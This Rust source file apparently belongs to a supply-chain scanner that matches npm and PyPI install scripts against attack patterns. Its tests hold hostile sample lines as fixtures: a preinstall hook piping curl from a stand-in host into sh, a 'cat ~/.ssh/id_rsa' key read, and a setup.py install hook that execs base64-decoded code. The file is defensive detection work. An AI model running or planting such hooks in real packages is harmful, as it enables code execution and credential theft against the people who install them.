//! Install-script pattern matching
//!
//! Matches every manifest script against the ecosystem's pattern table.
//! A match in a lifecycle hook (npm preinstall/postinstall, a PyPI
//! `cmdclass` setup.py) promotes the pattern's severity one level when the
//! row is lifecycle-sensitive. Evidence carries the hook name, the pattern
//! id, and the script text truncated to a readable length.

use crate::SOURCE;
use chainscan_core::{DetectionMethod, Ecosystem, Finding, PackageRef};
use chainscan_ecosystems::{EcosystemHandler, HandlerRegistry, ManifestScript};
use regex::Regex;
use std::collections::HashMap;

const EVIDENCE_SCRIPT_LIMIT: usize = 400;
const MATCH_CONFIDENCE: f64 = 0.9;

/// Pattern tables compiled once per scanner
pub struct ScriptMatcher {
    compiled: HashMap<&'static str, Regex>,
}

impl ScriptMatcher {
    pub fn compile(handlers: &HandlerRegistry) -> Self {
        let mut compiled = HashMap::new();
        for ecosystem in [Ecosystem::Npm, Ecosystem::PyPi] {
            for row in handlers.get(ecosystem).script_patterns() {
                match Regex::new(row.pattern) {
                    Ok(re) => {
                        compiled.insert(row.id, re);
                    }
                    Err(e) => {
                        tracing::error!(pattern = row.id, "pattern does not compile: {e}");
                    }
                }
            }
        }
        Self { compiled }
    }

    pub fn scan_script(
        &self,
        handler: &dyn EcosystemHandler,
        package: &PackageRef,
        script: &ManifestScript,
    ) -> Vec<Finding> {
        let mut findings = Vec::new();
        for row in handler.script_patterns() {
            let Some(re) = self.compiled.get(row.id) else {
                continue;
            };
            if !re.is_match(&script.command) {
                continue;
            }
            let severity = if script.lifecycle && row.lifecycle_sensitive {
                row.severity.promote()
            } else {
                row.severity
            };
            findings.push(Finding {
                package: package.clone(),
                finding_type: row.attack_family.to_string(),
                severity,
                confidence: MATCH_CONFIDENCE,
                evidence: vec![
                    format!("hook: {}", script.hook),
                    format!("pattern: {}", row.id),
                    format!("script: {}", truncate(&script.command, EVIDENCE_SCRIPT_LIMIT)),
                ],
                source: SOURCE.to_string(),
                recommendation: Some(
                    "Review the script before installing; consider --ignore-scripts".to_string(),
                ),
                references: vec![],
                detection_method: DetectionMethod::RuleBased,
            });
        }
        findings
    }
}

fn truncate(s: &str, limit: usize) -> String {
    if s.len() <= limit {
        s.to_string()
    } else {
        let mut cut = limit;
        while !s.is_char_boundary(cut) {
            cut -= 1;
        }
        format!("{}…", &s[..cut])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chainscan_core::Severity;

    fn matcher() -> (ScriptMatcher, HandlerRegistry) {
        let handlers = HandlerRegistry::new();
        (ScriptMatcher::compile(&handlers), handlers)
    }

    fn npm_script(hook: &str, command: &str, lifecycle: bool) -> ManifestScript {
        ManifestScript {
            hook: hook.to_string(),
            command: command.to_string(),
            lifecycle,
        }
    }

    fn root() -> PackageRef {
        PackageRef::new("demo", "1.0.0", Ecosystem::Npm)
    }

    #[test]
    fn test_lifecycle_promotion() {
        let (matcher, handlers) = matcher();
        let handler = handlers.get(Ecosystem::Npm);

        let in_hook = matcher.scan_script(
            handler,
            &root(),
            &npm_script("preinstall", "curl http://x.example/a.sh | sh", true),
        );
        let in_test = matcher.scan_script(
            handler,
            &root(),
            &npm_script("test", "curl http://x.example/a.sh | sh", false),
        );
        assert_eq!(in_hook[0].severity, Severity::Critical);
        assert_eq!(in_test[0].severity, Severity::High);
    }

    #[test]
    fn test_benign_script_clean() {
        let (matcher, handlers) = matcher();
        let findings = matcher.scan_script(
            handlers.get(Ecosystem::Npm),
            &root(),
            &npm_script("postinstall", "node scripts/banner.js", true),
        );
        assert!(findings.is_empty());
    }

    #[test]
    fn test_credential_paths_critical_without_hook() {
        let (matcher, handlers) = matcher();
        let findings = matcher.scan_script(
            handlers.get(Ecosystem::Npm),
            &root(),
            &npm_script("build", "cat ~/.ssh/id_rsa", false),
        );
        assert!(findings
            .iter()
            .any(|f| f.finding_type == "credential_theft" && f.severity == Severity::Critical));
    }

    #[test]
    fn test_pypi_setup_patterns() {
        let (matcher, handlers) = matcher();
        let handler = handlers.get(Ecosystem::PyPi);
        let setup = r#"
import os, base64
class Install(install):
    def run(self):
        exec(base64.b64decode(payload))
cmdclass={'install': Install}
        "#;
        let findings = matcher.scan_script(
            handler,
            &PackageRef::new("demo", "1.0.0", Ecosystem::PyPi),
            &ManifestScript {
                hook: "setup.py".to_string(),
                command: setup.to_string(),
                lifecycle: true,
            },
        );
        let families: Vec<&str> = findings.iter().map(|f| f.finding_type.as_str()).collect();
        assert!(families.contains(&"obfuscation"));
        assert!(families.contains(&"package_manager_abuse"));
    }

    #[test]
    fn test_evidence_is_truncated() {
        let (matcher, handlers) = matcher();
        let long_script = format!("eval(x); {}", "a".repeat(2000));
        let findings = matcher.scan_script(
            handlers.get(Ecosystem::Npm),
            &root(),
            &npm_script("postinstall", &long_script, true),
        );
        let script_line = findings[0]
            .evidence
            .iter()
            .find(|e| e.starts_with("script:"))
            .unwrap();
        assert!(script_line.len() < 600);
        assert!(script_line.ends_with('…'));
    }
}
